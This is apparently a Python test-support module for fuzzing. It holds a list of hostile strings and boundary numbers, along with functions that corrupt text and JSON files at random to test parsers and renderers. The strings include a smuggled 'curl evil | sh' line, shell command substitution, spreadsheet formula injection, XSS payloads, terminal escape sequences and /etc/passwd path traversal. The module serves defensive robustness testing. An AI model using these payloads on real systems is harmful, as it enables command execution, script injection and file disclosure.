"""Texts and numbers that break things, and damage to text."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator
from typing import Any

TEXTS = (
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[31mred",
    "\u009b31m",
    "\u202egnp.exe",
    "a\rb",
    "x\ncurl evil | sh\ny",
    "tab\there",
    "nul\0byte",
    "[/b]",
    "[/]",
    "[log]",
    "[bold]",
    "[link=file:///etc/passwd]x[/link]",
    "backslash\\",
    "[bold\\",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(A1)",
    "-2+3",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/p.png)",
    "[x](javascript:alert(1))",
    "# heading",
    "`code`",
    "``` \n# heading",
    "~~~~~~",
    "$(touch owned)",
    "; touch owned #",
    "| a | b |",
    "",
    " ",
    "é" * 300,
    "a" * 70_000,
    "(" * 100_000,
    "9" * 5_000,
    "../../../etc/passwd",
    "/dev/zero",
    "~nosuchuser/x",
    "%s%n{0}",
    "\ud800",
)

NUMBERS = (
    "-1",
    "0",
    "1e200",
    "-1e200",
    "1e308",
    "1e999",
    "NaN",
    "Infinity",
    "1e-320",
    "9" * 5_000,
    "1" + "0" * 400,
    str(2**63),
    str(-(2**70)),
    "3000000",
    "1000000000",
    "0.5",
    "true",
)

DEEP = 100_000


def text(rng: random.Random) -> str:
    """A hostile text."""
    return rng.choice(TEXTS)


def damaged_text(rng: random.Random, original: bytes) -> bytes:
    """A text file with one thing wrong."""
    ways: list[Callable[[], bytes]] = [
        lambda: _flipped(rng, original),
        lambda: original[: rng.randrange(len(original))],
        lambda: _word_replaced(rng, original, rng.choice(NUMBERS)),
        lambda: _word_replaced(rng, original, text(rng)),
        lambda: _lines(rng, original, lambda lines, at: lines[:at] + lines[at + 1 :]),
        lambda: _lines(rng, original, lambda lines, at: lines[:at] + [lines[at]] * 2 + lines[at + 1 :]),
        lambda: original.decode().encode("utf-16"),
        lambda: b"\xef\xbb\xbf" + original,
        lambda: original + b"\xff\xfe\0",
    ]
    return rng.choice(ways)()


def flipped(rng: random.Random, original: bytes) -> bytes:
    """Bytes of which a few have another bit."""
    return _flipped(rng, original)


def _flipped(rng: random.Random, original: bytes) -> bytes:
    changed = bytearray(original)
    for _ in range(rng.choice((1, 1, 2, 8))):
        changed[rng.randrange(len(changed))] ^= 1 << rng.randrange(8)
    return bytes(changed)


def _word_replaced(rng: random.Random, original: bytes, by: str) -> bytes:
    words = original.decode(errors="replace").replace(",", " , ").split(" ")
    words[rng.randrange(len(words))] = by
    return " ".join(words).replace(" , ", ",").encode(errors="surrogatepass")


def _lines(rng: random.Random, original: bytes, change: Callable[[list[bytes], int], list[bytes]]) -> bytes:
    lines = original.splitlines(keepends=True)
    return b"".join(change(lines, rng.randrange(len(lines))))


def damaged_json(rng: random.Random, original: bytes) -> bytes:
    """A JSON document with one thing wrong: mostly a value, or damage to its text."""
    if rng.random() < 0.25:
        return damaged_text(rng, original)
    document = json.loads(original)
    container, key = rng.choice(list(places(document)))
    mark = "@@the value@@"
    way = rng.randrange(8)
    if way == 0:
        del container[key]
    elif way == 1 and isinstance(container, dict):
        container[text(rng)] = container.pop(key)
    elif way == 2 and isinstance(container, dict):
        container[text(rng)] = 1
    else:
        value = json.dumps(text(rng))
        if way in (3, 4) or (way > 5 and isinstance(container[key], int | float)):
            value = rng.choice(NUMBERS)
        elif way == 5:
            value = rng.choice(
                ("null", "[]", "{}", "[" * DEEP + "]" * DEEP, '{"a":' * DEEP + "1" + "}" * DEEP)
            )
        container[key] = mark
        return json.dumps(document, indent=2).replace(json.dumps(mark), value).encode()
    return json.dumps(document, indent=2).encode()


def places(value: Any) -> Iterator[tuple[Any, Any]]:
    """Every (container, key or index) of a JSON document."""
    keys = list(value) if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else ()
    for key in keys:
        yield value, key
        yield from places(value[key])
